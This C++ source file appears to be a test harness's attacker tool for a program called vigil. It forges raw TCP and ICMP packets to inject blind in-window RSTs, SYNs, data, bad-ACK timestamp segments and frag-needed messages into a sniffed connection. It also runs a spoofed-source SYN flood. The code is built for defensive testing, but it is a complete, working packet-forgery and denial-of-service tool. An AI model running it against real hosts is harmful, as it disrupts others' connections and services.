// vigil_attack: the attacker of the tests/tools/tun_attack_*.sh tests. It
// runs inside a test's network namespace, where the Linux kernel is its
// vantage point, and writes forged IPv4 datagrams with a raw socket
// (IPPROTO_RAW, so the header is ours); the kernel routes them into vigil's
// TUN device. It builds packets itself, independently of vigil's code.
//
//   vigil_attack inject --dev DEV --vigil IP:PORT --peer IP:PORT --kind KIND --count N
//                       [--rate PPS] [--seed S]
//     Watches DEV (a packet socket) for the connection between vigil's
//     IP:PORT and the peer's, and forges N segments of KIND from the peer's
//     side of it. The attacker is blind: it uses what it sees only to put
//     its guesses where a blind in-window attack would have to land (in the
//     window, RFC 5961 §1.1), never the exact value a reset needs.
//       rst       RST, SEQ in the upper half of the window (half with ACK)
//       syn       SYN, SEQ = RCV.NXT + 0..window-1
//       data      1..100 bytes of 0xEE, half covering RCV.NXT, half
//                 anywhere in the window, with an ACK outside RFC 5961
//                 §5.2's [SND.UNA - MAX.SND.WND, SND.NXT] (half ahead of
//                 SND.NXT, half below SND.UNA - 16 MB) and the peer's TSval
//       badack-ts a pure ACK at RCV.NXT or 1..100 bytes covering it (where
//                 RFC 7323 §4.3 takes TS.Recent from), ACK as for data,
//                 TSval 2^29..2^31 ahead of the peer's: it must not become
//                 TS.Recent, or every genuine segment would fail PAWS
//       icmp      ICMP destination unreachable, codes 0..15 but 4 in turn,
//                 quoting a segment of vigil's that is in flight
//       fragneeded-blind  frag-needed, next-hop MTU 68..1499, quoting a
//                 sequence number outside the flight (RFC 5927 §4.1 check)
//       fragneeded        the same quoting a sequence number in flight
//     Prints "injected N kind K seconds T rate R in_flight F" (F: icmp
//     kinds, how many quoted a sequence number in flight when sent).
//
//   vigil_attack synflood --dst IP:PORT --rate PPS --seconds S [--seed S]
//     SYNs with Linux's options (MSS, SACK, timestamps, window scale) from
//     random addresses in 198.18.0.0/15 (RFC 2544's benchmark range) and
//     random ports, paced in 1 ms slots. Prints "sent N seconds T rate R
//     send_errors E".
//
// Needs root (raw and packet sockets). Exit 0 when done, 1 on an error.
#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <chrono>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <map>
#include <optional>
#include <random>
#include <string>
#include <thread>
#include <vector>

namespace {

constexpr uint8_t kOurTtl = 13;  // marks our own datagrams, which the sniffer skips

double now_s() {
  using namespace std::chrono;
  return duration<double>(steady_clock::now().time_since_epoch()).count();
}

// RFC 1071 one's-complement sum.
uint32_t sum16(const uint8_t* p, size_t n, uint32_t acc = 0) {
  for (size_t i = 0; i + 1 < n; i += 2) acc += static_cast<uint32_t>(p[i] << 8 | p[i + 1]);
  if (n & 1) acc += static_cast<uint32_t>(p[n - 1] << 8);
  return acc;
}
uint16_t fold(uint32_t acc) {
  while (acc >> 16) acc = (acc & 0xffff) + (acc >> 16);
  return static_cast<uint16_t>(~acc & 0xffff);
}
void put16(uint8_t* p, uint32_t v) {
  p[0] = static_cast<uint8_t>(v >> 8);
  p[1] = static_cast<uint8_t>(v);
}
void put32(uint8_t* p, uint32_t v) {
  put16(p, v >> 16);
  put16(p + 2, v & 0xffff);
}
uint16_t get16(const uint8_t* p) { return static_cast<uint16_t>(p[0] << 8 | p[1]); }
uint32_t get32(const uint8_t* p) { return uint32_t{get16(p)} << 16 | get16(p + 2); }

bool seq_lt(uint32_t a, uint32_t b) { return static_cast<int32_t>(a - b) < 0; }

// A 20-byte IPv4 header (no options) at p; the checksum is filled in.
void ip_header(uint8_t* p, size_t total, uint8_t proto, uint32_t src, uint32_t dst, uint16_t id) {
  std::memset(p, 0, 20);
  p[0] = 0x45;
  put16(p + 2, static_cast<uint32_t>(total));
  put16(p + 4, id);
  p[8] = kOurTtl;
  p[9] = proto;
  put32(p + 12, src);
  put32(p + 16, dst);
  put16(p + 10, fold(sum16(p, 20)));
}

// TCP checksum over the pseudo-header (RFC 9293 §3.1) of the segment at
// ip + 20, `len` bytes long.
void tcp_checksum(uint8_t* ip, size_t len) {
  uint8_t* t = ip + 20;
  put16(t + 16, 0);
  uint32_t acc = sum16(ip + 12, 8);  // source and destination address
  acc += 6 + static_cast<uint32_t>(len);
  put16(t + 16, fold(sum16(t, len, acc)));
}

struct Options {
  std::map<std::string, std::string> v;
  std::string get(const std::string& k, const std::string& def = "") const {
    auto it = v.find(k);
    return it == v.end() ? def : it->second;
  }
};

bool parse_addr(const std::string& s, uint32_t* out) {
  in_addr a{};
  if (inet_pton(AF_INET, s.c_str(), &a) != 1) return false;
  *out = ntohl(a.s_addr);
  return true;
}
bool parse_endpoint(const std::string& s, uint32_t* ip, uint16_t* port) {
  const size_t colon = s.rfind(':');
  if (colon == std::string::npos || !parse_addr(s.substr(0, colon), ip)) return false;
  const long p = std::strtol(s.c_str() + colon + 1, nullptr, 10);
  if (p <= 0 || p > 65535) return false;
  *port = static_cast<uint16_t>(p);
  return true;
}

int raw_socket() {
  const int fd = ::socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (fd < 0) std::fprintf(stderr, "vigil_attack: raw socket: %s\n", std::strerror(errno));
  return fd;
}

bool send_to(int fd, const uint8_t* p, size_t n, uint32_t dst) {
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(dst);
  return ::sendto(fd, p, n, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) ==
         static_cast<ssize_t>(n);
}

// What the attacker has seen of the connection so far.
struct View {
  bool have_vigil = false, have_peer = false;
  uint16_t peer_port = 0;
  uint32_t rcv_nxt = 0;     // vigil's ACK field: its RCV.NXT
  uint32_t rcv_wnd = 0;     // vigil's window, scaled when its SYN-ACK was seen
  uint8_t vigil_shift = 0;  // vigil's window scale
  uint32_t snd_nxt = 0;     // vigil's highest SEQ + LEN: its SND.NXT
  uint32_t snd_una = 0;     // the peer's ACK field: vigil's SND.UNA
  uint32_t peer_tsval = 0, vigil_tsval = 0;
  uint64_t segments = 0;
};

// TCP options: the timestamps' TSval and window scale, if present.
void scan_options(const uint8_t* o, size_t n, std::optional<uint32_t>* tsval,
                  std::optional<uint8_t>* wscale) {
  for (size_t i = 0; i < n;) {
    const uint8_t kind = o[i];
    if (kind == 0) break;
    if (kind == 1) {
      ++i;
      continue;
    }
    if (i + 1 >= n || o[i + 1] < 2 || i + o[i + 1] > n) break;
    if (kind == 8 && o[i + 1] == 10) *tsval = get32(o + i + 2);
    if (kind == 3 && o[i + 1] == 3) *wscale = o[i + 2];
    i += o[i + 1];
  }
}

// Folds one sniffed IPv4 datagram into the view.
void observe(View& v, const uint8_t* p, size_t n, uint32_t vigil_ip, uint16_t vigil_port,
             uint32_t peer_ip) {
  if (n < 40 || p[0] >> 4 != 4 || p[9] != 6 || p[8] == kOurTtl) return;
  const size_t ihl = static_cast<size_t>(p[0] & 15) * 4;
  const size_t total = std::min<size_t>(get16(p + 2), n);
  if (total < ihl + 20) return;
  const uint8_t* t = p + ihl;
  const size_t doff = static_cast<size_t>(t[12] >> 4) * 4;
  if (doff < 20 || ihl + doff > total) return;
  const uint32_t src = get32(p + 12), dst = get32(p + 16);
  const uint16_t sport = get16(t), dport = get16(t + 2);
  const uint8_t flags = t[13];
  const uint32_t seq = get32(t + 4), ack = get32(t + 8);
  const uint32_t len = static_cast<uint32_t>(total - ihl - doff) + ((flags & 0x03) ? 1 : 0);
  std::optional<uint32_t> tsval;
  std::optional<uint8_t> wscale;
  scan_options(t + 20, doff - 20, &tsval, &wscale);
  if (src == vigil_ip && sport == vigil_port && dst == peer_ip && dport == v.peer_port) {
    if ((flags & 0x12) == 0x12 && wscale) v.vigil_shift = *wscale;
    if (!(flags & 0x10)) return;
    v.rcv_nxt = ack;
    v.rcv_wnd = static_cast<uint32_t>(get16(t + 14)) << ((flags & 0x02) ? 0 : v.vigil_shift);
    if (!v.have_vigil || seq_lt(v.snd_nxt, seq + len)) v.snd_nxt = seq + len;
    if (tsval) v.vigil_tsval = *tsval;
    v.have_vigil = true;
    ++v.segments;
  } else if (dst == vigil_ip && dport == vigil_port && src == peer_ip && sport == v.peer_port) {
    if (!(flags & 0x10) || (flags & 0x04)) return;
    if (!v.have_peer || seq_lt(v.snd_una, ack)) v.snd_una = ack;
    if (tsval) v.peer_tsval = *tsval;
    v.have_peer = true;
    ++v.segments;
  }
}

int open_sniffer(const std::string& dev) {
  const int fd = ::socket(AF_PACKET, SOCK_DGRAM | SOCK_NONBLOCK, htons(ETH_P_ALL));
  if (fd < 0) {
    std::fprintf(stderr, "vigil_attack: packet socket: %s\n", std::strerror(errno));
    return -1;
  }
  sockaddr_ll ll{};
  ll.sll_family = AF_PACKET;
  ll.sll_protocol = htons(ETH_P_ALL);
  ll.sll_ifindex = static_cast<int>(if_nametoindex(dev.c_str()));
  if (ll.sll_ifindex == 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&ll), sizeof ll) != 0) {
    std::fprintf(stderr, "vigil_attack: cannot watch %s: %s\n", dev.c_str(), std::strerror(errno));
    ::close(fd);
    return -1;
  }
  int big = 4 << 20;
  ::setsockopt(fd, SOL_SOCKET, SO_RCVBUF, &big, sizeof big);
  return fd;
}

void drain(int fd, View& v, uint32_t vigil_ip, uint16_t vigil_port, uint32_t peer_ip) {
  uint8_t buf[65536];
  for (;;) {
    const ssize_t n = ::recv(fd, buf, sizeof buf, 0);
    if (n <= 0) return;
    observe(v, buf, static_cast<size_t>(n), vigil_ip, vigil_port, peer_ip);
  }
}

int run_inject(const Options& o) {
  uint32_t vigil_ip = 0, peer_ip = 0;
  uint16_t vigil_port = 0, peer_port = 0;
  const std::string kind = o.get("kind");
  const long count = std::strtol(o.get("count", "0").c_str(), nullptr, 10);
  const double rate = std::strtod(o.get("rate", "0").c_str(), nullptr);
  const char* kinds[] = {"rst",       "syn", "data", "badack-ts", "icmp", "fragneeded-blind",
                         "fragneeded"};
  bool known = false;
  for (const char* k : kinds) known = known || kind == k;
  if (!parse_endpoint(o.get("vigil"), &vigil_ip, &vigil_port) ||
      !parse_endpoint(o.get("peer"), &peer_ip, &peer_port) || o.get("dev").empty() || !known ||
      count <= 0) {
    std::fprintf(stderr,
                 "usage: vigil_attack inject --dev DEV --vigil IP:PORT --peer IP:PORT --kind "
                 "rst|syn|data|badack-ts|icmp|fragneeded-blind|fragneeded --count N [--rate PPS] "
                 "[--seed S]\n");
    return 2;
  }
  std::mt19937_64 rng(std::strtoull(o.get("seed", "1").c_str(), nullptr, 10));
  auto below = [&rng](uint64_t n) { return n == 0 ? 0 : static_cast<uint32_t>(rng() % n); };
  const int sniff = open_sniffer(o.get("dev"));
  const int raw = raw_socket();
  if (sniff < 0 || raw < 0) return 1;

  // Wait (10 s at most) for both sides of the connection.
  View v;
  v.peer_port = peer_port;
  const double give_up = now_s() + 10;
  while (!(v.have_vigil && v.have_peer)) {
    if (now_s() > give_up) {
      std::fprintf(stderr, "vigil_attack: no connection to %s seen on %s in 10 s\n",
                   o.get("vigil").c_str(), o.get("dev").c_str());
      return 1;
    }
    pollfd pfd{sniff, POLLIN, 0};
    ::poll(&pfd, 1, 100);
    drain(sniff, v, vigil_ip, vigil_port, peer_ip);
  }

  const bool icmp = kind == "icmp" || kind.rfind("fragneeded", 0) == 0;
  uint8_t pkt[1500];
  long sent = 0, in_flight = 0, failed = 0;
  int code = 0;
  const double t0 = now_s();
  for (long i = 0; i < count; ++i) {
    if (rate > 0) {
      const double due = t0 + static_cast<double>(i) / rate;
      while (now_s() < due) std::this_thread::sleep_for(std::chrono::microseconds(50));
    }
    drain(sniff, v, vigil_ip, vigil_port, peer_ip);  // the freshest view
    const uint16_t id = static_cast<uint16_t>(rng());
    // A bad ACK (RFC 5961 §5.2): outside [SND.UNA - MAX.SND.WND, SND.NXT],
    // taking MAX.SND.WND below 16 MB (Linux's tcp_rmem maximum is 6 MB).
    auto bad_ack = [&]() {
      return (rng() & 1) ? v.snd_nxt + 1 + below(1u << 30)
                         : v.snd_una - (1u << 24) - 1 - below(1u << 30);
    };
    size_t total = 0;
    if (!icmp) {
      const uint32_t wnd = std::max<uint32_t>(v.rcv_wnd, 2);
      uint8_t flags = 0x10;
      uint32_t seq = v.rcv_nxt + below(wnd), ack = v.snd_una, tsval = v.peer_tsval;
      size_t payload = 0;
      if (kind == "rst") {
        // The upper half of the window: RCV.NXT itself (which resets) only
        // if the view were half a window stale.
        seq = v.rcv_nxt + wnd / 2 + below(wnd - wnd / 2);
        flags = (rng() & 1) ? 0x14 : 0x04;
      } else if (kind == "syn") {
        flags = 0x02;
        ack = 0;
      } else if (kind == "data") {
        payload = 1 + below(100);
        flags = 0x18;
        ack = bad_ack();
        // Half where the next bytes belong (covering RCV.NXT: taken at
        // once if accepted), half anywhere in the window.
        if (rng() & 1) seq = v.rcv_nxt - below(static_cast<uint32_t>(payload));
      } else {  // badack-ts
        // Where TS.Recent would be taken from (RFC 7323 §4.3: the segment
        // covers Last.ACK.sent = RCV.NXT): a pure ACK at RCV.NXT, or data
        // that covers it.
        payload = (rng() & 1) ? 1 + below(100) : 0;
        seq = v.rcv_nxt - below(static_cast<uint32_t>(payload));
        ack = bad_ack();
        tsval = v.peer_tsval + (1u << 29) + below((1u << 31) - (1u << 29));
      }
      const size_t tcp_len = 32 + payload;  // NOP NOP timestamps
      total = 20 + tcp_len;
      ip_header(pkt, total, 6, peer_ip, vigil_ip, id);
      uint8_t* t = pkt + 20;
      std::memset(t, 0, tcp_len);
      put16(t, v.peer_port);
      put16(t + 2, vigil_port);
      put32(t + 4, seq);
      put32(t + 8, ack);
      t[12] = 8 << 4;
      t[13] = flags;
      put16(t + 14, 502);
      t[20] = 1;
      t[21] = 1;
      t[22] = 8;
      t[23] = 10;
      put32(t + 24, tsval);
      put32(t + 28, v.vigil_tsval);
      std::memset(t + 32, 0xEE, payload);
      tcp_checksum(pkt, tcp_len);
    } else {
      // ICMP destination unreachable (RFC 792) quoting vigil's IP header
      // and the first 8 bytes of its segment to the peer.
      const bool frag = kind != "icmp";
      uint8_t type_code = frag ? 4 : static_cast<uint8_t>(code);
      if (!frag) code = code == 3 ? 5 : (code + 1) % 16;
      const uint32_t flight = v.snd_nxt - v.snd_una;
      uint32_t seq;
      if (kind == "fragneeded-blind" || flight == 0 || seq_lt(v.snd_nxt, v.snd_una)) {
        seq = v.snd_nxt + (1u << 24) + below(1u << 30);  // far from the flight
      } else {
        seq = v.snd_una + below(flight);
        ++in_flight;
      }
      total = 20 + 8 + 28;
      ip_header(pkt, total, 1, peer_ip, vigil_ip, id);
      uint8_t* c = pkt + 20;
      std::memset(c, 0, 8 + 28);
      c[0] = 3;
      c[1] = type_code;
      if (frag) put16(c + 6, 68 + below(1500 - 68));
      uint8_t* q = c + 8;  // the quoted datagram, as vigil sent it
      ip_header(q, 1500, 6, vigil_ip, peer_ip, static_cast<uint16_t>(rng()));
      q[8] = 64;
      put16(q + 10, 0);
      put16(q + 10, fold(sum16(q, 20)));
      put16(q + 20, vigil_port);
      put16(q + 22, v.peer_port);
      put32(q + 24, seq);
      put16(c + 2, fold(sum16(c, 8 + 28)));
    }
    if (send_to(raw, pkt, total, vigil_ip)) {
      ++sent;
    } else {
      ++failed;
    }
  }
  const double took = now_s() - t0;
  std::printf("injected %ld kind %s seconds %.3f rate %.0f in_flight %ld send_errors %ld\n", sent,
              kind.c_str(), took, took > 0 ? static_cast<double>(sent) / took : 0.0, in_flight,
              failed);
  return sent == count ? 0 : 1;
}

int run_synflood(const Options& o) {
  uint32_t dst = 0;
  uint16_t dport = 0;
  const double rate = std::strtod(o.get("rate", "0").c_str(), nullptr);
  const double seconds = std::strtod(o.get("seconds", "0").c_str(), nullptr);
  if (!parse_endpoint(o.get("dst"), &dst, &dport) || rate <= 0 || seconds <= 0) {
    std::fprintf(stderr,
                 "usage: vigil_attack synflood --dst IP:PORT --rate PPS --seconds S [--seed S]\n");
    return 2;
  }
  std::mt19937_64 rng(std::strtoull(o.get("seed", "1").c_str(), nullptr, 10));
  const int raw = raw_socket();
  if (raw < 0) return 1;
  int big = 4 << 20;
  ::setsockopt(raw, SOL_SOCKET, SO_SNDBUF, &big, sizeof big);
  // Linux's SYN: MSS 1460, SACK permitted, timestamps, NOP, window scale 7.
  const uint8_t options[20] = {2, 4, 0x05, 0xb4, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};
  constexpr size_t kLen = 20 + 20 + sizeof options;
  constexpr size_t kBatch = 64;
  uint8_t pkts[kBatch][kLen];
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_addr.s_addr = htonl(dst);
  mmsghdr msgs[kBatch]{};
  iovec iov[kBatch]{};
  for (size_t i = 0; i < kBatch; ++i) {
    iov[i] = {pkts[i], kLen};
    msgs[i].msg_hdr.msg_iov = &iov[i];
    msgs[i].msg_hdr.msg_iovlen = 1;
    msgs[i].msg_hdr.msg_name = &to;
    msgs[i].msg_hdr.msg_namelen = sizeof to;
  }
  const uint32_t base = 198u << 24 | 18u << 16;  // 198.18.0.0/15
  // Paced against the clock: every packet due by now goes, a batch at a
  // time. A refused send (ENOBUFS: the socket or device queue is full)
  // loses that SYN and is counted.
  uint64_t sent = 0, errors = 0;
  const uint64_t total = static_cast<uint64_t>(rate * seconds);
  const double t0 = now_s();
  for (;;) {
    const double elapsed = now_s() - t0;
    if (sent + errors >= total || elapsed > seconds + 1) break;
    const uint64_t due = std::min<uint64_t>(total, static_cast<uint64_t>(elapsed * rate) + 1);
    if (sent + errors >= due) {
      std::this_thread::sleep_for(std::chrono::microseconds(200));
      continue;
    }
    const size_t n = static_cast<size_t>(std::min<uint64_t>(kBatch, due - sent - errors));
    for (size_t i = 0; i < n; ++i) {
      uint8_t* p = pkts[i];
      const uint32_t src = base | static_cast<uint32_t>(1 + rng() % ((1u << 17) - 2));
      ip_header(p, kLen, 6, src, dst, static_cast<uint16_t>(rng()));
      uint8_t* t = p + 20;
      std::memset(t, 0, 20);
      put16(t, static_cast<uint16_t>(1024 + rng() % 64511));
      put16(t + 2, dport);
      put32(t + 4, static_cast<uint32_t>(rng()));
      t[12] = 10 << 4;
      t[13] = 0x02;
      put16(t + 14, 64240);
      std::memcpy(t + 20, options, sizeof options);
      put32(t + 28, static_cast<uint32_t>(rng()));
      tcp_checksum(p, 20 + sizeof options);
    }
    const int r = ::sendmmsg(raw, msgs, static_cast<unsigned>(n), 0);
    if (r < 0) {
      ++errors;
      continue;
    }
    sent += static_cast<uint64_t>(r);
  }
  const double took = now_s() - t0;
  std::printf("sent %llu seconds %.3f rate %.0f send_errors %llu\n",
              static_cast<unsigned long long>(sent), took,
              took > 0 ? static_cast<double>(sent) / took : 0.0,
              static_cast<unsigned long long>(errors));
  return 0;
}

}  // namespace

int main(int argc, char** argv) {
  if (argc < 2) {
    std::fprintf(stderr, "usage: vigil_attack inject|synflood --help\n");
    return 2;
  }
  Options o;
  for (int i = 2; i + 1 < argc; i += 2) {
    const std::string k = argv[i];
    if (k.rfind("--", 0) != 0) {
      std::fprintf(stderr, "vigil_attack: expected --option value, got '%s'\n", argv[i]);
      return 2;
    }
    o.v[k.substr(2)] = argv[i + 1];
  }
  const std::string mode = argv[1];
  if (mode == "inject") return run_inject(o);
  if (mode == "synflood") return run_synflood(o);
  std::fprintf(stderr, "vigil_attack: unknown mode '%s': inject or synflood\n", mode.c_str());
  return 2;
}
